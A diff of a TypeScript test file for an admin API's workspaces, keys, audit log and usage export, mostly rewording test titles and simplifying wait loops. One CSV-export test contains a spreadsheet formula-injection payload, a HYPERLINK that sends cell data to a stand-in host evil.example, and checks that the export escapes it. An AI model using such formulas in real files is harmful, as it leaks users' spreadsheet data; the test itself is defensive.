@@ -1,4 +1,4 @@
-/** Workspaces and keys by the admin API, and what the log of changes says of it. */
+/** Workspaces and keys through the admin API, and their entries in the audit log. */
 import t from 'tap'
 import type { ReplyOf } from '../../src/api/admin/operations.js'
 import { audit, isBalanced } from '../helpers/audit.js'
@@ -11,7 +11,7 @@ type NewKey = ReplyOf<'createKey'>
 type Key = ReplyOf<'getKey'>
 type Audit = ReplyOf<'getAudit'>
 
-t.test('a workspace is made with limits and a budget, changed, and paid for', (t) =>
+t.test('a workspace is made with limits and a budget, changed, and given credits', (t) =>
   withAdmin(t, {}, async ({ admin, accounts, dataDir }) => {
     const budget = { tokens: 1000, period: 'week' as const }
     const limits = { requests_per_minute: 10 }
@@ -63,7 +63,7 @@ t.test('a workspace is made with limits and a budget, changed, and paid for', (t
   }),
 )
 
-t.test('a key is made, used, blocked, let in again, and revoked', (t) =>
+t.test('a key is made, used, blocked, unblocked, and revoked', (t) =>
   withAdmin(t, {}, async ({ admin, accounts, workspaceId, post }) => {
     const asked = { workspace_id: workspaceId, name: 'web' }
     const made = await admin.done<NewKey>('POST', '/keys', asked)
@@ -98,7 +98,7 @@ t.test('a key is made, used, blocked, let in again, and revoked', (t) =>
   }),
 )
 
-t.test('a rotated key is valid beside the new one for a while, and then alone is refused', (t) =>
+t.test('a rotated key is valid beside the new one for a while, and then refused', (t) =>
   withAdmin(t, {}, async ({ admin, workspaceId, post }) => {
     const models = ['stub']
     const asked = { workspace_id: workspaceId, name: 'web', models }
@@ -112,7 +112,7 @@ t.test('a rotated key is valid beside the new one for a while, and then alone is
     t.equal((await post(next.secret)).status, 200)
     const twice = { body: { overlap_seconds: 1 } }
     await admin.refused(409, 'conflict', 'POST', `${path}/rotate`, twice)
-    while ((await post(old.secret)).status === 200) await new Promise((r) => setTimeout(r, 100))
+    await until(async () => (await post(old.secret)).status !== 200)
     const late = await post(old.secret)
     t.equal(late.status, 401)
     t.match(await late.text(), /expired/)
@@ -124,7 +124,7 @@ t.test('a rotated key is valid beside the new one for a while, and then alone is
   }),
 )
 
-t.test('an expiry lies ahead, and a key goes by it', (t) =>
+t.test('an expiry must be in the future, and the key expires by it', (t) =>
   withAdmin(t, {}, async ({ admin, workspaceId, post }) => {
     const asked = { workspace_id: workspaceId, name: 'web' }
     for (const [expires_at, status] of [
@@ -140,7 +140,7 @@ t.test('an expiry lies ahead, and a key goes by it', (t) =>
     const key = await admin.done<NewKey>('POST', '/keys', { ...asked, expires_at })
     t.equal(key.expires_at, expires_at)
     t.equal((await post(key.secret)).status, 200)
-    while (Date.now() < Date.parse(expires_at)) await new Promise((r) => setTimeout(r, 50))
+    await until(() => Date.now() >= Date.parse(expires_at))
     t.equal((await post(key.secret)).status, 401)
     t.match(await admin.done('PATCH', `/keys/${key.id}`, { expires_at: null }), { state: 'active' })
     t.equal((await post(key.secret)).status, 200)
@@ -182,14 +182,14 @@ t.test('every change is in the audit log: who, what, before, after, when', (t) =
     t.equal(older.next_before, null)
     const whole = await admin.ask('GET', '/audit')
     t.notOk(whole.text.includes(key.secret))
-    // What failed has no entry.
+    // Failed changes have no entry.
     const count = accounts.audit.page(1000).entries.length
     await admin.refused(409, 'conflict', 'PATCH', `/keys/${key.id}`, { body: { name: 'x' } })
     t.equal(accounts.audit.page(1000).entries.length, count)
   }),
 )
 
-t.test('ten thousand rows of the ledger are read by pages, each once, the newest first', (t) =>
+t.test('ten thousand rows of the ledger are read in pages, each once, newest first', (t) =>
   withAdmin(t, {}, async ({ admin, accounts, workspaceId, keyId }) => {
     accounts.credits.add(workspaceId, 1_000_000_000)
     const { id: other } = accounts.createWorkspace('other')
@@ -254,9 +254,9 @@ t.test('names that are scripts are only names, in every reply and file', (t) =>
     t.equal((await admin.done<Workspace>('GET', `/workspaces/${id}`)).name, name)
     const csv = await admin.ask('GET', '/usage?by=key&format=csv')
     t.match(csv.headers.get('content-disposition'), /^attachment; filename="[\w.-]+"$/)
-    // A spreadsheet takes it for a text.
+    // A spreadsheet reads it as text.
     t.match(csv.text, `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`)
-    // One that separates cells by semicolons, and one that knows wide signs, do as well.
+    // Also spreadsheets that split cells at semicolons, or know full-width characters.
     for (const [key, text] of [
       ['a;=1+1', `a;'=1+1`],
       ['＝1+1', `'＝1+1`],
